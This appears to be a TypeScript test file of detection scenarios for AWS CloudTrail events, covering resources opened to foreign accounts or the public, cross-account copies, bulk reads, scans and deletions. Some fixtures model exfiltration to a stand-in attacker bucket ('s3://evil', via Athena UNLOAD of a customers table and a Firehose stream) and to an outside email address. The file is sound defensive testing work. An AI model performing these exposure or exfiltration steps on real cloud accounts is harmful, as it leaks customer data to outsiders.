import {
  bucketCall,
  by,
  call,
  type Event,
  FOREIGN,
  OWN,
  objectCall,
  roleSession,
  SERVICE,
  times,
  USER,
  when,
} from "../events.ts";
import { fires, lookAlike, ofSuspect, quiet, type Scenarios, three } from "../scenario.ts";

const allow = (principal: unknown, over: Event = {}): string =>
  JSON.stringify({
    Version: "2012-10-17",
    Statement: [{ Effect: "Allow", Principal: principal, Action: "kms:*", Resource: "*", ...over }],
  });
const abroad = { AWS: `arn:aws:iam::${FOREIGN}:root` };
const ours = { AWS: `arn:aws:iam::${OWN}:root` };
const key = (policy: string): Event => call("kms", "PutKeyPolicy", { keyId: "k", policyName: "default", policy });
const read = (n: number, bytes: number, over: Event = {}): Event =>
  when(n, objectCall("GetObject", `k${n}`, {}, { additionalEventData: { bytesTransferredOut: bytes }, ...over }));
const query = (queryString: string, over: Event = {}): Event =>
  call("athena", "StartQueryExecution", { queryString, ...over });
const policy = (statement: Event): Event =>
  bucketCall("PutBucketPolicy", {
    bucketPolicy: {
      Statement: [{ Effect: "Allow", Principal: "*", Action: "s3:GetObject", Resource: "*", ...statement }],
    },
  });
const inventory = (account: string): Event =>
  bucketCall("PutBucketInventoryConfiguration", {
    InventoryConfiguration: {
      Destination: { S3BucketDestination: { AccountId: account, Bucket: "arn:aws:s3:::lists" } },
    },
  });

export const stores: Scenarios = {
  "resource-policy-foreign": [
    ...three(
      [
        ["a key opened to another account", key(allow(abroad)), { target: FOREIGN }],
        [
          "an access point opened to another account",
          bucketCall("PutAccessPointPolicy", { name: "ap", Policy: allow(abroad) }),
          { target: FOREIGN },
        ],
        [
          "a directory bucket opened",
          call("s3express", "PutBucketPolicy", { bucketName: "acme--x-s3", bucketPolicy: JSON.parse(allow(abroad)) }),
          { target: FOREIGN },
        ],
        [
          "a secret opened",
          call("secretsmanager", "PutResourcePolicy", { secretId: "s", resourcePolicy: allow(abroad) }),
          { target: FOREIGN },
        ],
      ],
      ["another account denied", key(allow(abroad, { Effect: "Deny" }))],
      ["our own account named", key(allow(ours))],
    ),
    quiet("a service let in for our account", [
      key(allow({ Service: "logs.amazonaws.com" }, { Condition: { StringEquals: { "aws:SourceAccount": OWN } } })),
    ]),
    quiet("a policy that is no JSON", [key("{")]),
  ],
  "resource-policy-public": three(
    [
      ["a repository opened to everybody", call("ecr", "SetRepositoryPolicy", { policyText: allow("*") })],
      [
        "a topic opened to everybody",
        call("sns", "SetTopicAttributes", {
          topicArn: "t",
          attributeName: "Policy",
          attributeValue: allow({ AWS: "*" }),
        }),
      ],
    ],
    [
      "everybody, of our account",
      call("ecr", "SetRepositoryPolicy", {
        policyText: allow("*", { Condition: { StringEquals: { "aws:PrincipalAccount": OWN } } }),
      }),
    ],
    ["everybody denied", call("ecr", "SetRepositoryPolicy", { policyText: allow("*", { Effect: "Deny" }) })],
  ),
  "shared-with-account": three(
    [
      [
        "a key granted abroad",
        call("kms", "CreateGrant", { keyId: "k", granteePrincipal: `arn:aws:iam::${FOREIGN}:role/x` }),
        { target: FOREIGN },
      ],
      [
        "a snapshot of Redshift shared",
        call("redshift", "AuthorizeSnapshotAccess", { accountWithRestoreAccess: FOREIGN }),
        { target: FOREIGN },
      ],
      [
        "events sent abroad",
        call("events", "PutTargets", {
          rule: "r",
          targets: [{ id: "1", arn: `arn:aws:events:eu-central-1:${FOREIGN}:event-bus/x` }],
        }),
        { target: FOREIGN },
      ],
    ],
    [
      "a key granted to a role of ours",
      call("kms", "CreateGrant", {
        keyId: `arn:aws:kms:eu-central-1:${OWN}:key/k`,
        granteePrincipal: `arn:aws:iam::${OWN}:role/x`,
      }),
    ],
    [
      "events sent within the house",
      call("events", "PutTargets", {
        rule: "r",
        targets: [{ id: "1", arn: `arn:aws:lambda:eu-central-1:${OWN}:function:f` }],
      }),
    ],
  ),
  "opened-to-everybody": three(
    [
      ["a document shared with all", call("ssm", "ModifyDocumentPermission", { name: "d", accountIdsToAdd: ["all"] })],
      [
        "builds made public",
        call("codebuild", "UpdateProjectVisibility", { projectVisibility: "PUBLIC_READ", projectArn: "p" }),
      ],
    ],
    [
      "builds made private",
      call("codebuild", "UpdateProjectVisibility", { projectVisibility: "PRIVATE", projectArn: "p" }),
    ],
    [
      "a document shared with one account",
      call("ssm", "ModifyDocumentPermission", { name: "d", accountIdsToAdd: [OWN] }),
    ],
  ),
  "access-point-opened": three(
    [
      [
        "an access point with public access not blocked",
        bucketCall("CreateAccessPoint", {
          name: "ap",
          CreateAccessPointRequest: {
            Bucket: "acme-data",
            PublicAccessBlockConfiguration: { BlockPublicPolicy: false, RestrictPublicBuckets: false },
          },
        }),
        { severity: "high" },
      ],
      [
        "code put into the way of reading",
        bucketCall("CreateAccessPointForObjectLambda", { name: "ol" }),
        { severity: "high" },
      ],
      [
        "a grant",
        bucketCall("CreateAccessGrant", {
          Grantee: { GranteeType: "IAM", GranteeIdentifier: `arn:aws:iam::${FOREIGN}:role/x` },
        }),
      ],
    ],
    ["an access point deleted", bucketCall("DeleteAccessPoint", { name: "ap" })],
    ["access points listed", bucketCall("ListAccessPoints")],
  ),
  "bucket-policy-one-address": three(
    [["one address let in", policy({ Condition: { IpAddress: { "aws:SourceIp": "203.0.113.66/32" } } })]],
    [
      "every address but ours denied",
      policy({ Effect: "Deny", Condition: { NotIpAddress: { "aws:SourceIp": "198.51.100.0/24" } } }),
    ],
    [
      "one address of our organisation",
      policy({
        Condition: { IpAddress: { "aws:SourceIp": "203.0.113.66/32" }, StringEquals: { "aws:PrincipalOrgID": "o-1" } },
      }),
    ],
  ),
  "large-objects-read": [
    fires("one object of two gigabytes", [read(1, 2_000_000_000)], { bytes_out: 2_000_000_000, objects: 1 }),
    lookAlike(
      "hundred small objects",
      times(100, (n) => read(n, 1000)),
    ),
    quiet(
      "four gigabytes over four days",
      times(40, (n) => when(n * 8640, read(n, 100_000_000))),
    ),
    ofSuspect(USER.accessKeyId, fires("a fifth of a gigabyte", [read(1, 200_000_000)])),
    quiet("two gigabytes by a service", [read(1, 2_000_000_000, { userIdentity: SERVICE })]),
  ],
  "bucket-output-abroad": three(
    [
      ["the inventory to another account", inventory(FOREIGN), { target: FOREIGN }],
      [
        "notices to a queue abroad",
        bucketCall("PutBucketNotification", {
          NotificationConfiguration: { QueueConfiguration: { Queue: `arn:aws:sqs:eu-central-1:${FOREIGN}:q` } },
        }),
        { target: FOREIGN },
      ],
    ],
    ["the inventory within the house", inventory(OWN)],
    [
      "notices to a function of ours",
      bucketCall("PutBucketNotification", {
        NotificationConfiguration: {
          CloudFunctionConfiguration: { CloudFunction: `arn:aws:lambda:eu-central-1:${OWN}:function:f` },
        },
      }),
    ],
  ),
  "query-results-elsewhere": [
    fires("an UNLOAD", [query("UNLOAD (SELECT * FROM customers) TO 's3://evil/x' WITH (format='PARQUET')")], {
      target: "evil",
      severity: "high",
    }),
    fires(
      "results into a bucket nobody used",
      [query("SELECT * FROM customers", { resultConfiguration: { outputLocation: "s3://evil/x" } })],
      { target: "evil" },
    ),
    lookAlike("results into the bucket that everybody uses", [
      query("SELECT 1", { resultConfiguration: { outputLocation: "s3://results/a" } }),
      by(roleSession("analyst"), query("SELECT 2", { resultConfiguration: { outputLocation: "s3://results/b" } })),
    ]),
    quiet("a query with the workgroup's results", [query("SELECT 1")]),
  ],
  "catalog-access-widened": three(
    [
      [
        "an administrator of the data lake made",
        call("lakeformation", "PutDataLakeSettings", {
          dataLakeSettings: { dataLakeAdmins: [{ dataLakePrincipalIdentifier: USER.arn }] },
        }),
        { severity: "high" },
      ],
    ],
    ["rights taken away", call("lakeformation", "RevokePermissions", {})],
    ["rights listed", call("lakeformation", "ListPermissions", {})],
  ),
  "transfer-path-opened": three(
    [
      [
        "a public server",
        call("transfer", "CreateServer", { protocols: ["SFTP"], endpointType: "PUBLIC" }),
        { severity: "critical" },
      ],
      [
        "a file share over a bucket",
        call("storagegateway", "CreateNFSFileShare", { locationARN: "arn:aws:s3:::acme-data" }),
        { target: "arn:aws:s3:::acme-data" },
      ],
    ],
    ["a server stopped", call("transfer", "StopServer", { serverId: "s-1" })],
    ["servers listed", call("transfer", "ListServers", null)],
  ),
  "delivery-stream-made": three(
    [
      [
        "a stream into a bucket",
        call("firehose", "CreateDeliveryStream", {
          deliveryStreamName: "x",
          extendedS3DestinationConfiguration: { bucketARN: "arn:aws:s3:::evil" },
        }),
        { target: "arn:aws:s3:::evil" },
      ],
      [
        "notices by mail",
        call("sns", "Subscribe", { protocol: "email", endpoint: "eve@example.com" }),
        { target: "eve@example.com" },
      ],
    ],
    [
      "a queue of ours subscribed",
      call("sns", "Subscribe", { protocol: "sqs", endpoint: `arn:aws:sqs:eu-central-1:${OWN}:q` }),
    ],
    ["a stream deleted", call("firehose", "DeleteDeliveryStream", { deliveryStreamName: "x" })],
  ),
  "shared-snapshot-used": three(
    [
      [
        "a snapshot copied by another account",
        by(
          { type: "AWSService", invokedBy: "ec2.amazonaws.com" },
          call("ec2", "SharedSnapshotCopyInitiated", null, {
            serviceEventDetails: { snapshotId: "snap-1", userId: FOREIGN },
          }),
        ),
        { target: FOREIGN },
      ],
    ],
    ["a snapshot copied by ourselves", call("ec2", "CopySnapshot", { sourceSnapshotId: "snap-1" })],
    ["a snapshot shared (see ec2-snapshot-shared)", call("ec2", "ModifySnapshotAttribute", { snapshotId: "snap-1" })],
  ),
  "table-scanned": [
    fires(
      "a hundred scans",
      times(100, (n) => when(n, call("dynamodb", "Scan", { tableName: "customers" }))),
    ),
    ofSuspect(USER.accessKeyId, fires("one scan", [call("dynamodb", "Scan", { tableName: "customers" })])),
    lookAlike("one scan of somebody else", [call("dynamodb", "Scan", { tableName: "customers" })]),
    quiet(
      "a hundred items by key",
      times(100, (n) => when(n, call("dynamodb", "GetItem", { tableName: "customers" }))),
    ),
  ],
  "rows-and-vectors-read": [
    fires(
      "a hundred and fifty data files of a table",
      times(150, (n) =>
        when(n, call("s3tables", "GetTableData", { tableARN: "t", key: `d/${n}` }, { eventCategory: "Data" })),
      ),
    ),
    lookAlike(
      "a table's own metadata listed",
      times(150, (n) => when(n, call("s3tables", "ListTables", {}))),
    ),
    quiet(
      "three vectors",
      times(3, () => call("s3vectors", "GetVectors", { vectorBucketName: "v" }, { eventCategory: "Data" })),
    ),
  ],
  "database-opened": three(
    [
      [
        "a database made public",
        call("rds", "ModifyDBInstance", { dBInstanceIdentifier: "d", publiclyAccessible: true }),
        { severity: "high" },
      ],
      [
        "another master password",
        call("rds", "ModifyDBInstance", { dBInstanceIdentifier: "d", masterUserPassword: "****" }),
      ],
    ],
    ["a database made larger", call("rds", "ModifyDBInstance", { dBInstanceIdentifier: "d", allocatedStorage: 100 })],
    [
      "a private database made",
      call("rds", "CreateDBInstance", { dBInstanceIdentifier: "d", publiclyAccessible: false }),
    ],
  ),
  "backup-copied-abroad": three(
    [
      [
        "a copy to a vault abroad",
        call("backup", "StartCopyJob", {
          destinationBackupVaultArn: `arn:aws:backup:eu-central-1:${FOREIGN}:backup-vault:v`,
        }),
        { target: FOREIGN },
      ],
    ],
    [
      "a copy to a vault of ours",
      call("backup", "StartCopyJob", { destinationBackupVaultArn: `arn:aws:backup:eu-west-1:${OWN}:backup-vault:v` }),
    ],
    ["a backup made", call("backup", "StartBackupJob", {})],
  ),
  "objects-deleted": [
    ofSuspect(
      USER.accessKeyId,
      fires("one batch", [
        objectCall("DeleteObjects", "", {}, { requestParameters: { bucketName: "acme-data", delete: "" } }),
      ]),
    ),
    lookAlike(
      "thirty objects of somebody else",
      times(30, (n) => when(n, objectCall("DeleteObject", `k${n}`))),
    ),
    ofSuspect(
      USER.accessKeyId,
      quiet(
        "staging files",
        times(30, (n) => when(n, objectCall("DeleteObject", `staging/${n}`))),
      ),
    ),
  ],
  "versions-deleted": [
    fires(
      "thirty versions",
      times(30, (n) => when(n, objectCall("DeleteObject", `k${n}`, { versionId: "v1" }))),
      { items: 30 },
    ),
    lookAlike(
      "thirty objects, whose versions stay",
      times(30, (n) => when(n, objectCall("DeleteObject", `k${n}`))),
    ),
    quiet(
      "two versions",
      times(2, (n) => when(n, objectCall("DeleteObject", `k${n}`, { versionId: "v1" }))),
    ),
  ],
};
